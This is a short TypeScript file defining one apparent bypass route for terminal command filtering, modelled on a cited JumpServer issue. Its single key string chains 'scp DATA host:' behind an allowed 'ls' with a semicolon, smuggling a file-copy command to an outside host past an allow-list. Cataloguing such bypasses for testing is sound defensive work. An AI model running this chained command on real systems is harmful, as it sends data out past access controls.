import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'behind an allowed command',
  source: 'jumpserver#11527: ls;rm',
  keys: ['ls;scp DATA host:\r'],
};
